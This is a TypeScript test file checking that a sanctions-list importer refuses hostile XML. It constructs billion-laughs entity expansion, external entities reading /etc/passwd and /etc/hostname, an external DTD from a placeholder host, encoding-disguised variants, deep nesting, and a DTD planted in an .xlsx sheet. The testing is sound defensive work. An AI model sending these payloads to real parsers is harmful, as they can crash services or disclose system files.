// Hostile XML: entity expansion ("billion laughs"), external entities that would read local files,
// the same tricks hidden behind a byte-order mark or UTF-16, very deep nesting, and an .xlsx whose
// sheet carries a DTD. Each is refused or read without expanding anything, with words. How long
// each takes is a figure in `npm run bench -- guards`.
import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { readSpreadsheet, writeTemplate } from '../../../src/core/io';
import { importList } from '../../../src/core/screening';

const options = { id: 'lst_x', importedAt: '2026-03-01T00:00:00.000Z' };
const record = '<INDIVIDUALS><INDIVIDUAL><REFERENCE_NUMBER>KPi.001</REFERENCE_NUMBER><FIRST_NAME>&lol9;</FIRST_NAME><UN_LIST_TYPE>DPRK</UN_LIST_TYPE><LISTED_ON>2013-03-07</LISTED_ON></INDIVIDUAL></INDIVIDUALS>';
const laughs = [
  '<!ENTITY lol "lol">',
  ...Array.from({ length: 9 }, (_v, i) => `<!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`),
].join('');
const BILLION_LAUGHS = `<?xml version="1.0"?><!DOCTYPE CONSOLIDATED_LIST [${laughs}]><CONSOLIDATED_LIST dateGenerated="2026-02-27T00:00:00Z">${record}</CONSOLIDATED_LIST>`;
const EXTERNAL = '<?xml version="1.0"?><!DOCTYPE CONSOLIDATED_LIST [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><CONSOLIDATED_LIST dateGenerated="2026-02-27T00:00:00Z"><INDIVIDUALS><INDIVIDUAL><REFERENCE_NUMBER>KPi.001</REFERENCE_NUMBER><FIRST_NAME>&xxe;</FIRST_NAME></INDIVIDUAL></INDIVIDUALS></CONSOLIDATED_LIST>';
const PARAMETER = '<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://example.invalid/evil.dtd" [<!ENTITY % p SYSTEM "file:///etc/hostname"> %p;]><CONSOLIDATED_LIST dateGenerated="2026-02-27T00:00:00Z"/>';

function utf16le(text: string): Uint8Array {
  const out = new Uint8Array(2 + text.length * 2);
  out.set([0xff, 0xfe]);
  for (let i = 0; i < text.length; i++) {
    out[2 + i * 2] = text.charCodeAt(i) & 0xff;
    out[3 + i * 2] = text.charCodeAt(i) >> 8;
  }
  return out;
}

/** Imports one hostile list file. */
function importHostile(bytes: Uint8Array) {
  return importList([{ name: 'consolidated.xml', bytes }], options);
}

describe('hostile XML in list files', () => {
  it.each([
    ['billion laughs', strToU8(BILLION_LAUGHS)],
    ['an external entity reading /etc/passwd', strToU8(EXTERNAL)],
    ['a parameter entity and an external DTD', strToU8(PARAMETER)],
    ['billion laughs behind a byte-order mark', strToU8(`\uFEFF${BILLION_LAUGHS}`)],
    ['an external entity in UTF-16', utf16le(EXTERNAL)],
  ])('refuses %s before parsing', (_name, bytes) => {
    const result = importHostile(bytes);
    expect(result.value).toBeNull();
    expect(result.errors.map((e) => e.message)).toEqual([expect.stringMatching(/declares a DTD or entities; such XML is refused/)]);
    expect(JSON.stringify(result)).not.toMatch(/root:|lollollol/);
  });

  it('does not expand undeclared entity references', () => {
    const xml = BILLION_LAUGHS.replace(/<!DOCTYPE[^\]]*\]>/, '');
    const result = importHostile(strToU8(xml));
    expect(JSON.stringify(result)).not.toMatch(/lollollol/);
  });

  it('answers 100,000 levels of nesting with an error, not a stack overflow', () => {
    const depth = 100_000;
    const xml = `<?xml version="1.0"?><CONSOLIDATED_LIST dateGenerated="2026-02-27T00:00:00Z">${'<A>'.repeat(depth)}${'</A>'.repeat(depth)}</CONSOLIDATED_LIST>`;
    const result = importHostile(strToU8(xml));
    expect(result.value).toBeNull();
    expect(result.errors.length).toBeGreaterThan(0);
  });
});

describe('hostile XML inside a workbook', () => {
  it('reads a sheet that declares billion-laughs entities without expanding them', () => {
    const parts: Record<string, Uint8Array> = unzipSync(writeTemplate());
    const sheet = Object.keys(parts).find((n) => /^xl\/worksheets\/sheet\d+\.xml$/.test(n))!;
    const xml = strFromU8(parts[sheet]!);
    parts[sheet] = strToU8(xml.replace(/^(<\?xml[^>]*\?>)?/, `$1<!DOCTYPE worksheet [${laughs}]>`).replace(/<c r="A1"[^>]*>.*?<\/c>/, '<c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c>'));
    const result = readSpreadsheet(zipSync(parts), 'template.xlsx');
    expect(JSON.stringify(result)).not.toMatch(/lollollol/);
    expect(Array.isArray(result.errors)).toBe(true);
  });
});
